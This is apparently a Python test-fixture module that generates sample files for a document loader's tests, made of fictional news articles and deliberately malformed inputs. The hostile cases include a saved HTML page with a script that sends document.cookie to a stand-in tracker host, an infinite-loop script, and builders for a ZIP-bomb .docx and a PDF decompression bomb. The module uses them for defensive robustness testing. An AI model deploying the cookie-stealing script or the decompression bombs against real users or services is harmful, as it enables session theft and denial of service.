"""Builders for the test inputs of the loader tests: real files of every type.

Everything here is our own fictional text; PDFs and Word files are generated
with reportlab and python-docx so no binary fixture needs committing.
"""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

STORY = (
    "The council of Northfield voted on Tuesday to close the old harbour bridge for "
    "repairs, after engineers found corrosion in the cables that hold up its deck.\n\n"
    "Commuters will use a ferry for the three months the work is expected to take, "
    "the council said in a statement. Shop owners near the bridge said they were "
    "worried about losing customers during the busy summer season.\n\n"
    "The mayor said the decision had not been easy but that safety had to come first, "
    "and promised that the ferry would run every twenty minutes."
)

OTHER_STORY = (
    "A small museum in the hill town of Carrow reopened on Saturday after a flood in "
    "the spring damaged most of its ground floor and part of its collection.\n\n"
    "Volunteers spent weeks drying old letters and photographs, the director said, "
    "and almost all of them could be saved."
)


def story(n: int) -> str:
    """A distinct short article for batch tests (so none is a duplicate of another)."""
    return f"Story number {n}.\n\n{STORY}\n\nThis was report {n} of the series."


def write_pdf(
    path: Path,
    paragraphs: list[str],
    *,
    title: str = "",
    author: str = "",
    encrypt_user_password: str | None = None,
) -> Path:
    """A real PDF with a text layer, one flowing paragraph per item."""
    from reportlab.lib import pdfencrypt
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import getSampleStyleSheet
    from reportlab.platypus import Paragraph, SimpleDocTemplate

    encrypt = None
    if encrypt_user_password is not None:
        encrypt = pdfencrypt.StandardEncryption(encrypt_user_password, ownerPassword="owner")
    document = SimpleDocTemplate(
        str(path), pagesize=A4, title=title, author=author, encrypt=encrypt
    )
    style = getSampleStyleSheet()["Normal"]
    document.build([Paragraph(p, style) for p in paragraphs])
    return path


def write_image_only_pdf(path: Path) -> Path:
    """A PDF whose only page holds a drawing and no text (like a scan)."""
    from reportlab.pdfgen import canvas

    pdf = canvas.Canvas(str(path))
    pdf.rect(100, 100, 300, 400, fill=1)
    pdf.circle(250, 600, 80, fill=0)
    pdf.save()
    return path


def write_docx(path: Path, paragraphs: list[str], *, title: str = "", author: str = "") -> Path:
    """A real Word document with the given paragraphs."""
    import docx

    document = docx.Document()
    document.core_properties.title = title
    document.core_properties.author = author
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    document.save(str(path))
    return path


def write_zip_bomb_docx(path: Path, *, unpacked_mb: int = 300) -> Path:
    """A .docx-shaped ZIP whose document part unpacks to ``unpacked_mb`` MB of zeros."""
    chunk = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            for _ in range(unpacked_mb):
                member.write(chunk)
    return path


FRENCH = (
    "Le conseil municipal a voté mardi la fermeture du vieux pont pour des travaux de "
    "réparation. Les habitants devront prendre le bac pendant les trois mois que durera "
    "le chantier, et les commerçants disent qu'ils sont inquiets pour la saison."
)


def hostile_html() -> str:
    """A saved page full of things that must neither run nor be read as the article."""
    data_uri = "data:image/png;base64," + "iVBORw0KGgo" * 1_000_000  # ~11 MB inline image
    paragraphs = "".join(f"<p>{p}</p>" for p in OTHER_STORY.split("\n\n"))
    return (
        "<html><head><title>Museum</title>"
        "<script>fetch('https://tracker.example/?c=' + document.cookie)</script>"
        '<link rel="stylesheet" href="https://cdn.example/site.css"></head><body>'
        '<iframe src="https://ads.example/banner"></iframe>'
        '<img src="https://remote.example/pixel.gif" width="1" height="1">'
        f'<img src="{data_uri}"><article><h1>Museum reopens</h1>{paragraphs}</article>'
        '<object data="https://remote.example/x.swf"></object>'
        "<script>while (true) {}</script></body></html>"
    )


def build_hostile_batch(root: Path, *, big_text_mb: int = 60) -> dict[str, str]:
    """Write a mixed batch into ``root``; return {path: "article" | "failure"} expected."""
    expect: dict[str, str] = {}

    def put(name: str, data: bytes | str, outcome: str) -> Path:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            path.write_text(data, encoding="utf-8")
        else:
            path.write_bytes(data)
        expect[str(path)] = outcome
        return path

    put("good/01.txt", story(1), "article")
    put("good/02.md", "---\noutlet: Harbour Daily\n---\n" + story(2), "article")
    put("good/03.html", hostile_html(), "article")
    expect[str(write_pdf(root / "good/04.pdf", story(4).split("\n\n")))] = "article"
    expect[str(write_docx(root / "good/05.docx", story(5).split("\n\n")))] = "article"
    put("enc/utf16.txt", story(6).encode("utf-16"), "article")
    put("enc/utf16be-nobom.txt", story(7).encode("utf-16-be"), "article")
    put("enc/cp1252.txt", ("“Quoted” — " + story(8)).encode("cp1252"), "article")
    put("enc/latin1.txt", ("Café " + story(9)).encode("latin-1"), "article")
    put("enc/mixed.txt", story(10).encode() + "\nCafé".encode("cp1252"), "article")
    put("enc/nul.txt", story(11).encode().replace(b". ", b".\x00 "), "article")
    put("lang/french.txt", FRENCH, "article")
    put("bad/empty.txt", b"", "failure")
    put("bad/blank.md", b" \n\r\n\t\n", "failure")
    put("bad/binary.txt", os.urandom(20_000), "failure")
    put("bad/png.txt", b"\x89PNG\r\n\x1a\n" + os.urandom(1000), "failure")
    put("bad/random.pdf", os.urandom(20_000), "failure")
    full_pdf = write_pdf(root / "tmp-full.pdf", [STORY]).read_bytes()
    (root / "tmp-full.pdf").unlink()
    put("bad/truncated.pdf", full_pdf[: len(full_pdf) // 2], "failure")
    expect[str(write_pdf(root / "bad/encrypted.pdf", [STORY], encrypt_user_password="pw"))] = (
        "failure"
    )
    expect[str(write_image_only_pdf(root / "bad/scan.pdf"))] = "failure"
    put("bad/corrupt.docx", b"PK\x03\x04" + os.urandom(5000), "failure")
    expect[str(write_zip_bomb_docx(root / "bad/bomb.docx", unpacked_mb=300))] = "failure"
    expect[str(write_pdf_stream_bomb(root / "bad/bomb.pdf", unpacked_mb=120))] = "failure"
    put("bad/only-scripts.html", "<html><script>alert(1)</script></html>", "failure")
    line = ("All work and no play makes a very long file. " * 20 + "\n").encode()
    with (root / "bad/huge.txt").open("wb") as handle:
        for _ in range(big_text_mb * 1024 * 1024 // len(line) + 1):
            handle.write(line)
    expect[str(root / "bad/huge.txt")] = "failure"
    put("zz-dup/copy-of-01.txt", "\n" + story(1) + "\n", "failure")
    loop = root / "loops"
    loop.mkdir()
    (loop / "again").symlink_to(root, target_is_directory=True)
    return expect


def write_pdf_stream_bomb(path: Path, *, unpacked_mb: int = 120) -> Path:
    """A one-page PDF whose content stream inflates to ``unpacked_mb`` MB of spaces."""
    import zlib

    compressor = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    stream = b"".join(compressor.compress(chunk) for _ in range(unpacked_mb))
    stream += compressor.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    path.write_bytes(bytes(out))
    return path


def remove_tree(top: Path) -> None:
    """Remove a folder tree of any depth without recursion (``shutil.rmtree`` and
    pytest's clean-up recurse, and fail on the 1,200-deep trees of issue 27)."""
    import os

    stack = [str(top)]
    while stack:
        folder = stack[-1]
        try:
            entries = list(os.scandir(folder))
        except OSError:
            stack.pop()
            continue
        subfolders = [e.path for e in entries if e.is_dir(follow_symlinks=False)]
        for entry in entries:
            if not entry.is_dir(follow_symlinks=False):
                os.unlink(entry.path)
        if subfolders:
            stack.extend(subfolders)
        else:
            os.rmdir(folder)
            stack.pop()
